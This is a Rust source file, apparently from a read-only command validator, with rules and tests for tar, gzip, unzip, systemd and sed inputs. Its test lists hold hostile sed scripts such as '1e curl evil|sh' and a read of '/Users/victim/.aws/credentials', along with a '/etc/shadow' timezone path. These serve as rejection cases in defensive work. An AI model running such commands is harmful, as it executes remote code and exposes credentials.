    let values = p.flags.iter().filter_map(|f| f.value);
    match p
        .operands
        .iter()
        .map(|(_, o)| *o)
        .chain(values)
        .find(|v| v.contains(['(', '/']))
    {
        Some(v) => reject(
            Rule::ReadonlyManualFile,
            format!("`{v}` may name a file for info to read"),
        ),
        None => Ok(()),
    }
}

/// GNU binutils (`strings`) read an `@FILE` operand as more arguments, and
/// print the ones they cannot use: a way to read any file.
pub(crate) fn no_response_files(p: &Parsed<'_>, _: &[&str]) -> Result<(), Reject> {
    // binutils expands every argument starting with `@`, option values too
    // (`strings -s @FILE`).
    let values = p.flags.iter().filter_map(|f| f.value).map(|v| (0, v));
    match p
        .operands
        .iter()
        .copied()
        .chain(values)
        .find(|(_, o)| o.starts_with('@'))
    {
        Some((_, o)) => reject(
            Rule::ReadonlyResponseFile,
            format!("`{o}` is read as a file of arguments"),
        ),
        None => Ok(()),
    }
}

/// `hostnamectl`, `timedatectl`: without a verb they show the status; of
/// the verbs only those that show (`set-*`, `ntp`... change the system).
pub(crate) fn systemd_status(p: &Parsed<'_>, _: &[&str]) -> Result<(), Reject> {
    match p.operands.as_slice() {
        []
        | [
            (
                _,
                "status" | "show" | "list-timezones" | "timesync-status" | "show-timesync"
                | "hostname" | "icon-name" | "chassis" | "deployment" | "location",
            ),
        ] => Ok(()),
        [(_, verb), ..] => reject(
            Rule::ReadonlyVerb.at(verb),
            format!("`{verb}` may change the system's settings"),
        ),
    }
}

/// `tar`: only listing (`-t`) or extracting to standard output (`-x -O`).
/// The archive (`-f`) must be local: `host:file` makes tar run a remote
/// shell to reach it.
pub(crate) fn tar(p: &Parsed<'_>, _: &[&str]) -> Result<(), Reject> {
    if !(p.has("-t") || (p.has("-x") && p.has("-O"))) {
        return reject(
            Rule::TarMode,
            "only `tar -t` (list) and `tar -xO` (extract to standard output) only read",
        );
    }
    if p.value("-f").is_some_and(|f| f.contains(':')) {
        return reject(
            Rule::TarRemoteArchive,
            "an archive named `host:file` is reached through a remote shell",
        );
    }
    Ok(())
}

/// tar's old option style (`tar tzf x.tar`): the first argument is a
/// cluster of option letters without a dash, their values following in
/// order. As a dash cluster it means the same only while the one letter
/// that takes a value (`f`) comes last, so only then is it rewritten;
/// anything else stays an operand, and `tar` without a mode rejects.
pub(crate) fn tar_old_style(first: &str) -> Option<String> {
    // `f` takes the next argument wherever it stands in the cluster (`tfz
    // x.tar` is `-t -f x.tar -z`): at most one, moved to the end.
    let files = first.bytes().filter(|&b| b == b'f').count();
    let letters: String = first.chars().filter(|&c| c != 'f').collect();
    (!first.is_empty()
        && !first.starts_with('-')
        && files <= 1
        && letters.bytes().all(|b| b"tvzjJxO".contains(&b)))
    .then(|| format!("-{letters}{}", if files == 1 { "f" } else { "" }))
}

/// `gzip`/`gunzip`: only to standard output (`-c`), listing (`-l`) or
/// testing (`-t`); otherwise they replace files.
pub(crate) fn gzip(p: &Parsed<'_>, _: &[&str]) -> Result<(), Reject> {
    if ["-c", "-l", "-t"].iter().any(|f| p.has(f)) {
        if p.has("-d") {
            compressed_names_of(p)?;
        }
        Ok(())
    } else {
        reject(
            Rule::GzipWrites,
            "without -c, -l or -t gzip replaces the files it is given",
        )
    }
}

/// `gunzip`: [`gzip`]'s rule, and it always decompresses.
pub(crate) fn gunzip(p: &Parsed<'_>, words: &[&str]) -> Result<(), Reject> {
    gzip(p, words)?;
    compressed_names_of(p)
}

/// The suffixes gzip tries when a file to decompress is missing (`zcat x`
/// opens `x.gz`, `x.z`, ... and `-f` prints a plain file as it is).
const COMPRESSED: &[&str] = &[".gz", ".z", ".Z", "-gz", "-z", "_z", ".tgz", ".taz"];

/// `gunzip -c`, `zcat`, `gzip -dc`: each file named with its compressed
/// suffix, so the name read is the name checked (a missing `x` would be
/// read as a planted link `x.gz`).
pub(crate) fn compressed_names(p: &Parsed<'_>, _: &[&str]) -> Result<(), Reject> {
    compressed_names_of(p)
}

fn compressed_names_of(p: &Parsed<'_>) -> Result<(), Reject> {
    match p
        .operands
        .iter()
        .find(|(_, o)| *o != "-" && !COMPRESSED.iter().any(|s| o.ends_with(s)))
    {
        Some((_, o)) => reject(
            Rule::ReadonlyArgumentFile,
            format!("`{o}` has no compressed suffix: gzip would look for `{o}.gz` and other names"),
        ),
        None => Ok(()),
    }
}

/// `unzip`: only listing (`-l`, `-v`, `-z`), testing (`-t`) or extracting
/// to standard output (`-p`, `-c`); otherwise it writes files.
pub(crate) fn unzip(p: &Parsed<'_>, _: &[&str]) -> Result<(), Reject> {
    if ["-l", "-v", "-z", "-t", "-p", "-c"]
        .iter()
        .any(|f| p.has(f))
    {
        // unzip looks for `NAME.zip` when `NAME` is missing, and expands
        // wildcards in the archive's name itself.
        match p.operands.first() {
            Some((_, archive))
                if !archive.to_ascii_lowercase().ends_with(".zip")
                    || archive.contains(['*', '?', '[']) =>
            {
                reject(
                    Rule::ReadonlyArgumentFile,
                    format!(
                        "unzip may read another file than `{archive}` (`{archive}.zip`, or what a wildcard matches)"
                    ),
                )
            }
            _ => Ok(()),
        }
    } else {
        reject(
            Rule::UnzipWrites,
            "without -l, -v, -z, -t, -p or -c unzip extracts files",
        )
    }
}

#[cfg(test)]
mod tests {
    use super::sed_script;

    proptest::proptest! {
        /// A date string is hostile input: any text is answered.
        #[test]
        fn date_strings_never_panic(text in ".{0,100}") {
            let _ = super::date_string_zone(&text);
            let _ = super::date_string_zone(&format!("TZ=\"{text}"));
        }
    }

    #[test]
    fn date_string_zones() {
        #[rustfmt::skip]
        let rows = [
            ("now", true), ("TZ=\"UTC\" now", true), (" TZ=\"America/New_York\" 9am", true),
            ("TZ=\"/etc/shadow\" now", false), ("TZ=\"a\\\"b\" now", false),
            ("TZ=\"UTC\" TZ=\"/x\"", false), ("tz=\"/x\"", false), ("TZ=\"UTC", false),
        ];
        for (string, ok) in rows {
            assert_eq!(super::date_string_zone(string), ok, "{string}");
        }
    }

    #[test]
    fn sed_scripts() {
        let ok = [
            "p",
            "1p",
            "120,200p",
            "/start/,/end/p",
            "s/foo/bar/g",
            "$!{h};d",
            "s|a|b|2p",
            "y/abc/xyz/",
            "1~2d",
            "/x/I!d",
            "5q",
            "=",
            "s/a\\/b/c/",
        ];
        let bad = [
            "xp",
            "pp",
            "w out",
            "$!{h};w out",
            "s/a/b/;w out",
            "s/x/y/w /tmp/out",
            "W /tmp/out",
            "s/.*/id/e",
            "1e curl evil|sh",
            "r/Users/victim/.aws/credentials",
            "R f",
            "e date",
            "k",
            "s/a/b",
        ];
        for s in ok {
            assert_eq!(sed_script(s), Ok(()), "{s}");
        }
        for s in bad {
            assert!(sed_script(s).is_err(), "{s} should reject");
        }
    }
}
